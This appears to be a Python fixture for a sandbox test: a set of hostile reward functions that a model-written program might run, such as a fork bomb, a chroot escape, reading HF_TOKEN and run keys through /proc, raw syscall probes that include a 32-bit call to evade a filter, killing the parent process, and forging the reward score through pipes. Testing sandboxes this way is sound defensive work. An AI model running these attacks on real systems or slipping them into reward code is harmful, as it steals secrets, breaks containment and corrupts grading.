"""Reward functions that attack: what a program that a model wrote may do to the process, the run and the
machine around it.

Copied beside a victim file by `test_reward_sandbox.py`, and run in a real worker. They only try: whether they
succeeded is seen from outside. Column `how` names the attack, `world` has the paths, ports and process ids
that are attacked.
"""

import ctypes
import errno
import glob
import mmap
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
from multiprocessing import shared_memory
from pathlib import Path

KEPT = []
PTRACE_SEIZE, CLONE_NEWNS, CLONE_NEWUSER, MS_REMOUNT, MS_BIND = 0x4206, 0x20000, 0x10000000, 32, 4096
libc = ctypes.CDLL(None, use_errno=True)


def task(prompt, response, how, world):
    if how == "honest":
        with tempfile.TemporaryFile() as file:
            file.write(b"x" * 1_000_000)
        done = subprocess.run(
            [sys.executable, "-c", "print(6 * 7)"], capture_output=True, text=True, check=True
        )
        return float(done.stdout)
    return ATTACKS[how](world) or 0.0


def tell(text):
    """The only way out for what was read: the reason of a failure."""
    raise SystemExit(text)


def fork_bomb(world):
    for _ in range(300):
        if os.fork() == 0:
            threading.Event().wait(60)
            os._exit(0)


def orphan(world):
    if (child := os.fork()) == 0:
        os.setsid()
        for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        if os.fork() == 0:
            threading.Event().wait(60)
        os._exit(0)
    os.waitpid(child, 0)  # its own child runs on


def allocate(world):
    KEPT.append(mmap.mmap(-1, 10 << 30))  # not touched: where it succeeds the machine shall live


def raise_limits(world):
    for kind in (resource.RLIMIT_AS, resource.RLIMIT_NOFILE):
        resource.setrlimit(kind, (resource.RLIM_INFINITY if kind == resource.RLIMIT_AS else 65536,) * 2)
    allocate(world)


def stack_overflow(world):
    sys.setrecursionlimit(10**9)
    threading.stack_size(512 << 20)

    def deeper(n):
        return repr([deeper(n + 1)])

    thread = threading.Thread(target=deeper, args=(0,))
    thread.start()
    thread.join()


def connect_tcp(world):
    socket.create_connection(("127.0.0.1", world["tcp"]), timeout=1).sendall(b"hello")


def ask_dns(world):
    query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\7example\3org\0" + struct.pack(">HH", 1, 1)
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", world["udp"]))


def connect_store(world):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(world["store"])
        connection.sendall(b"FLUSHALL\r\n")


def connect_abstract(world):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("\0" + world["abstract"])
        connection.sendall(b"hello")


def read_environ(world):
    found = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            found += [
                line
                for line in Path(path).read_text(errors="replace").split("\0")
                if line.startswith("HF_TOKEN=")
            ]
        except OSError:
            continue
    tell(" ".join(found))


def read_run_key(world):
    _read(world["run_key"])


def read_join_key(world):
    _read(world["join_key"])


def read_dot_file(world):
    _read(world["dot_file"])


def read_elsewhere(world):
    _read(world["elsewhere"])


def _read(name):
    found = []
    for path in (name, *(f"/proc/{pid}/root{name}" for pid in (1, os.getppid(), *world_pids()))):
        try:
            found.append(Path(path).read_text())
        except OSError as error:
            found.append(str(error))
    tell(" ".join(found))


def world_pids():
    return [int(name) for name in os.listdir("/proc") if name.isdecimal()][:50]


def chroot_away(world):
    outside, inside = os.open("/", os.O_RDONLY), tempfile.mkdtemp()
    os.chroot(inside)
    os.fchdir(outside)
    for _ in range(30):
        os.chdir("..")
    os.chroot(".")
    _read(world["elsewhere"])


def write_beside_reward(world):
    Path(world["victim"]).write_text("attacked")


def write_run_key(world):
    os.chmod(world["run_key"], 0o600)
    Path(world["run_key"]).write_text("attacked")


def symlink_out(world):
    link = Path(f"/tmp/{world['token']}")
    link.symlink_to(world["victim"])
    link.write_text("attacked")


def remount_and_write(world):
    place = os.path.dirname(world["victim"]).encode()
    libc.unshare(CLONE_NEWUSER | CLONE_NEWNS)
    libc.mount(b"none", place, None, MS_REMOUNT | MS_BIND, None)
    libc.umount2(place, 2)
    write_beside_reward(world)


def write_sysctl(world):
    for path in (world["sysctl"], f"/proc/self/root{world['sysctl']}"):
        Path(path).write_text(world["sysctl_value"])


def trace(world):
    for pid in _targets(world):
        libc.ptrace(PTRACE_SEIZE, pid, None, None)


CALLS = {
    "x86_64": {"bpf": 321, "io_uring_setup": 425, "keyctl": 250, "ptrace": 101, "mount": 165, "unshare": 272, "userfaultfd": 323,
               "perf_event_open": 298, "kexec_load": 246, "init_module": 175, "open_by_handle_at": 304, "setns": 308},
    "aarch64": {"bpf": 280, "io_uring_setup": 425, "keyctl": 219, "ptrace": 117, "mount": 40, "unshare": 97, "userfaultfd": 282,
                "perf_event_open": 241, "kexec_load": 104, "init_module": 105, "open_by_handle_at": 265, "setns": 268},
}  # fmt: skip


def reach_the_kernel(world):
    """Calls with arguments that mean nothing: what is not refused beforehand fails in another way."""
    reached = []
    for name, number in CALLS[os.uname().machine].items():
        ctypes.set_errno(0)
        libc.syscall(number, -1, -1, 0, 0, 0, 0)
        if ctypes.get_errno() != errno.EPERM:
            reached.append(f"{name}:{errno.errorcode.get(ctypes.get_errno())}")
    tell(f"reached [{' '.join(reached)}]")


def ask_in_32_bit(world):
    """getpid by int 0x80, whose numbers are others: a filter of 64-bit numbers would not see it."""
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")  # mov eax, 20; int 0x80; ret
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    tell(f"reached [{ctypes.CFUNCTYPE(ctypes.c_int)(address)()}]")


def read_another_run(world):
    _read(world["other_run"])


def read_deeper(world):
    _read(world["deeper"])


def kill(world):
    _signal(world, signal.SIGKILL)


def stop(world):
    _signal(world, signal.SIGSTOP)


def _signal(world, number):
    for pid in _targets(world):
        try:
            os.kill(pid, number)
        except ProcessLookupError:
            continue


def _targets(world):
    """The processes that the test has chosen, and where it says so our parent."""
    return [*world["pids"], *([os.getppid()] if world["parent_too"] and os.getppid() else [])]


def forge_reply(world):
    """The score is written by a program that the reward runs, not by the reward."""
    code = (
        "import glob, os, stat, struct\nreply = bytes([0x82, 0xa6]) + b'values' + bytes([0x91, 0xcb]) + "
        "struct.pack('>d', 100.0) + bytes([0xa7]) + b'answers' + bytes([0x91, 0xc0])\n"
        f"for path in glob.glob('/proc/{os.getpid()}/fd/*'):\n    try:\n        "
        "if not stat.S_ISFIFO(os.stat(path).st_mode): continue\n        os.write(os.open(path, os.O_WRONLY "
        "| os.O_NONBLOCK), struct.pack('<I', len(reply)) + reply)\n    except OSError: pass\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


def overwrite_shared_memory(world):
    block = shared_memory.SharedMemory(world["shared_memory"])
    assert block.buf is not None
    block.buf[:8] = b"attacked"


def attach_system_v(world):
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(libc.shmget(world["system_v"], 4096, 0), None, 0)
    if address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memmove(address, b"attacked", 8)


def print_a_gigabyte(world):
    line = b"x" * (1 << 20)
    for _ in range(1 << 10):
        os.write(1, line)


def use_up_descriptors(world):
    try:
        while len(KEPT) < 200_000:
            KEPT.append(open("/dev/null"))  # noqa: SIM115 - to be kept is the attack
    except OSError:
        return


def fill_tmp(world):
    for place in ("/tmp", "/dev/shm"):
        try:
            with open(f"{place}/{world['token']}", "wb") as file:
                for _ in range(1 << 9):
                    file.write(b"x" * (1 << 20))
        except OSError:
            continue


def leave(world):
    os._exit(0)


def system_exit(world):
    raise SystemExit(0)


def sleep_forever(world):
    threading.Event().wait(3600)


def busy_and_deaf(world):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    while True:
        pass


def interrupt_the_group(world):
    os.killpg(0, signal.SIGSTOP)
    threading.Event().wait(3600)


ATTACKS = {
    name: value
    for name, value in globals().items()
    if callable(value) and getattr(value, "__module__", "") == __name__
}
